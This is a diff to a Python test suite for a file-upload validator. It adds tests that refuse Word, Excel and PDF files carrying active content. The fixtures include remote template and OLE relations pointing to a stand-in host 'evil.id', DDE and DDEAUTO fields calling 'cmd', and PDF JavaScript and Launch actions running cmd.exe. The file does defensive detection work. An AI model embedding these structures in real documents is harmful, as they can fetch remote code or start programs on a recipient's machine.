@@ -26,6 +26,7 @@ from sop.errors.files import (
     OtherFormat,
     ProtectedFile,
     ProtectedPdf,
+    RunningPdf,
     SuspiciousArchive,
     UnknownFileKind,
 )
@@ -289,6 +290,40 @@ def test_a_document_whose_content_does_not_match_its_checksum_is_refused() -> No
     data = packed({"word/media/a.bin": b"isi yang rusak"}, compression=zipfile.ZIP_STORED)
 
     assert refusal_of(data.replace(b"isi yang rusak", b"isi yang busuk"), "a.docx") == BrokenFile("a.docx")
+
+
+RELATION = (
+    b'<Relationships xmlns="x"><Relationship Id="r1" Type="http://x/relationships/%s" Target="%s"'
+    b' TargetMode="External"/></Relationships>'
+)
+
+
+@pytest.mark.parametrize(
+    "parts",
+    [
+        {"word/_rels/settings.xml.rels": RELATION % (b"attachedTemplate", b"https://evil.id/x.dotm")},
+        {"word/_rels/document.xml.rels": RELATION % (b"oleObject", b"http://evil.id/x.html!")},
+        {"word/header1.xml": b"<w:hdr><w:instrText> DDEAUTO cmd</w:instrText></w:hdr>"},
+        {"word/footer1.xml": b'<w:ftr><w:fldSimple w:instr=" DDE cmd "/></w:ftr>'},
+        {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
+    ],
+)
+def test_what_fetches_or_starts_something_is_refused(parts: dict[str, bytes]) -> None:
+    assert refusal_of(packed(parts), "a.docx") == MacroDocument("a.docx")
+
+
+def test_a_template_of_the_office_and_a_link_to_a_page_are_harmless() -> None:
+    template = {"word/_rels/settings.xml.rels": RELATION % (b"attachedTemplate", b"file:///C:/Dinas/Surat.dotx")}
+    page = {"word/_rels/document.xml.rels": RELATION % (b"hyperlink", b"https://jdih.go.id")}
+
+    assert recognise(packed({**template, **page}), "a.docx") is FileKind.DOCX
+
+
+@pytest.mark.parametrize("action", [b"/S /JavaScript /JS (app.alert(1))", b"/S/Launch/F(cmd.exe)"])
+def test_a_pdf_that_runs_something_is_refused(action: bytes) -> None:
+    data = PDF.replace(b"%%EOF", b"9 0 obj <<" + action + b">> endobj\n%%EOF")
+
+    assert refusal_of(data, "a.pdf") == RunningPdf("a.pdf")
 
 
 def test_content_types_that_are_no_xml_are_refused() -> None:
